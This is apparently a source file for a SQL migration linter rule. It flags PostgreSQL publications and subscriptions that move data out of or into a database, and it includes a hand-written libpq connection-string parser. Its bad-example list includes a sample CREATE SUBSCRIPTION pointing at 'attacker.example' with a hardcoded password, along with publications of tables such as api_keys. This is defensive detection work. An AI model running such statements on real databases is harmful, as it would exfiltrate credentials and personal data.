import { inside, rangeVarName } from '../src/sql/ast.js';
import type { Report, Rule, Statement } from '../src/types.js';
import { withDynamic } from '../src/sql/dynamic.js';

/**
 * libpq connection info, keyword/value or URI form, read as libpq's conninfo_parse does
 * (src/interfaces/libpq/fe-connect.c): `key = value` pairs separated by whitespace, a value either
 * single-quoted (backslash escapes `\'` and `\\`) or unquoted up to whitespace (backslash escapes too).
 * Hand-written: no maintained JavaScript package parses libpq's keyword/value syntax.
 */
export function parseConninfo(s: string): Record<string, string> {
  const out: Record<string, string> = {};
  const t = s.trim();
  if (/^postgres(ql)?:\/\//i.test(t)) {
    try {
      const u = new URL(t.replace(/^postgres(ql)?:/i, 'http:'));
      if (u.username) out.user = decodeURIComponent(u.username);
      if (u.password) out.password = decodeURIComponent(u.password);
      if (u.hostname) out.host = u.hostname;
      if (u.port) out.port = u.port;
      const db = decodeURIComponent(u.pathname.replace(/^\//, ''));
      if (db) out.dbname = db;
      for (const [k, v] of u.searchParams) out[k] = v;
    } catch {
      // not a URL after all: fall through to the key/value reading
    }
    if (Object.keys(out).length) return out;
  }
  let i = 0;
  while (i < t.length) {
    while (i < t.length && /\s/.test(t[i])) i++;
    const k0 = i;
    while (i < t.length && t[i] !== '=' && !/\s/.test(t[i])) i++;
    const key = t.slice(k0, i);
    while (i < t.length && /\s/.test(t[i])) i++;
    if (t[i] !== '=') break;
    i++;
    while (i < t.length && /\s/.test(t[i])) i++;
    let val = '';
    if (t[i] === "'") {
      i++;
      while (i < t.length && t[i] !== "'") {
        if (t[i] === '\\' && i + 1 < t.length) i++;
        val += t[i++];
      }
      i++;
    } else {
      while (i < t.length && !/\s/.test(t[i])) {
        if (t[i] === '\\' && i + 1 < t.length) i++;
        val += t[i++];
      }
    }
    if (key) out[key.toLowerCase()] = val;
  }
  return out;
}

function where(ci: Record<string, string>): string {
  const parts = [ci.host ?? ci.hostaddr ? `host ${ci.host ?? ci.hostaddr}` : '', ci.dbname ? `database ${ci.dbname}` : '', ci.user ? `user ${ci.user}` : ''].filter(Boolean);
  return parts.length ? parts.join(', ') : 'a server named in the connection string';
}

/** The tables and schemas (`TABLES IN SCHEMA`) of a publication object list; replication-break reads it too. */
export function publicationObjects(list: any[] | undefined): { tables: string[]; schemas: string[] } {
  const tables: string[] = [];
  const schemas: string[] = [];
  for (const o of list ?? []) {
    const p = o?.PublicationObjSpec;
    if (!p) continue;
    if (p.pubobjtype === 'PUBLICATIONOBJ_TABLE' || p.pubobjtype === 'PUBLICATIONOBJ_CONTINUATION') {
      if (p.pubtable?.relation) tables.push(rangeVarName(p.pubtable.relation));
      else if (p.name) tables.push(p.name);
    } else if (p.name) schemas.push(p.name);
    else schemas.push('CURRENT_SCHEMA');
  }
  return { tables, schemas };
}

function subscription(stmt: Statement, verb: string, name: string, conninfo: string | undefined, report: (r: Report) => void): void {
  if (conninfo === undefined) return;
  const ci = parseConninfo(conninfo);
  const secrets = ci.password ? [ci.password] : undefined;
  report({
    message: `${verb} subscription ${name} connecting to ${where(ci)}: the database server opens a replication connection there and applies whatever it sends${ci.password ? '; the connection string holds a hardcoded password (stored in pg_subscription)' : ''}${inside(stmt)}.`,
    secrets,
    key: name,
  });
}

const rule: Rule = {
  meta: {
    id: 'logical-replication',
    category: 'privilege',
    severity: 'error',
    summary: 'Creates or widens a publication (FOR ALL TABLES, FOR TABLE, TABLES IN SCHEMA) or a subscription with a CONNECTION: data leaves or enters the database',
    rationale:
      'A publication makes every change of its tables available to any subscriber that can connect with a replication-capable role: ' +
      'FOR ALL TABLES includes tables created later, credentials and personal data included. A subscription makes the server connect to another ' +
      'host and write what it receives into local tables (bypassing triggers and row-level security), and its CONNECTION string is stored in ' +
      'the catalog, password included. Either is a standing data flow out of (or into) the database set up by a migration.',
    fix: 'Set up replication as a reviewed operational step with credentials from a secret store; publish only the tables that must be replicated, and get it approved.',
    examples: {
      bad: [
        { sql: 'CREATE PUBLICATION everything FOR ALL TABLES;' },
        { sql: 'CREATE PUBLICATION p FOR TABLE users, api_keys;' },
        { sql: 'ALTER PUBLICATION p ADD TABLE secrets;' },
        { sql: "CREATE SUBSCRIPTION s CONNECTION 'host=attacker.example dbname=x user=r password=hunter22' PUBLICATION p;" },
        { sql: "ALTER SUBSCRIPTION s CONNECTION 'postgresql://r@replica.example/app';" },
      ],
      good: [{ sql: 'DROP PUBLICATION IF EXISTS p;' }, { sql: 'ALTER SUBSCRIPTION s DISABLE;' }, { sql: "COMMENT ON TABLE t IS 'create publication p for all tables';" }],
    },
  },
  check(stmt, { report }) {
    const pg = stmt.pg;
    if (!pg) return;
    const c = pg.CreatePublicationStmt;
    if (c) {
      const { tables, schemas } = publicationObjects(c.pubobjects);
      if (c.for_all_tables) report({ message: `Creates publication ${c.pubname} FOR ALL TABLES: every change to every table, present and future, is available to subscribers${inside(stmt)} (high risk).` });
      else if (tables.length || schemas.length)
        report({ message: `Creates publication ${c.pubname} for ${[tables.length ? `table${tables.length > 1 ? 's' : ''} ${tables.join(', ')}` : '', schemas.length ? `all tables in schema ${schemas.join(', ')}` : ''].filter(Boolean).join(' and ')}: their changes are available to subscribers${inside(stmt)}.` });
      else report({ message: `Creates publication ${c.pubname} with no tables yet (tables added later are published)${inside(stmt)}.`, severity: 'warning' });
    }
    const a = pg.AlterPublicationStmt;
    if (a && (a.action === 'AP_AddObjects' || a.action === 'AP_SetObjects') && (a.pubobjects?.length || a.for_all_tables)) {
      const { tables, schemas } = publicationObjects(a.pubobjects);
      const what = [tables.length ? tables.join(', ') : '', schemas.length ? `all tables in schema ${schemas.join(', ')}` : '', a.for_all_tables ? 'ALL TABLES' : ''].filter(Boolean).join(' and ');
      report({ message: `${a.action === 'AP_SetObjects' ? 'Sets' : 'Adds'} ${what} ${a.action === 'AP_SetObjects' ? 'as the tables of' : 'to'} publication ${a.pubname}: their changes are available to subscribers${inside(stmt)}.` });
    }
    const s = pg.CreateSubscriptionStmt;
    if (s) subscription(stmt, 'Creates', s.subname, s.conninfo, report);
    const as = pg.AlterSubscriptionStmt;
    if (as?.kind === 'ALTER_SUBSCRIPTION_CONNECTION') subscription(stmt, 'Points', as.subname, as.conninfo, report);
  },
  lexical: [/\bcreate\s+publication\b[^;]*\bfor\b/, /\balter\s+publication\b[^;]*\b(add|set)\s+(table|tables)\b/, /\b(create|alter)\s+subscription\b[^;]*\bconnection\b/],
};
export default withDynamic(rule);
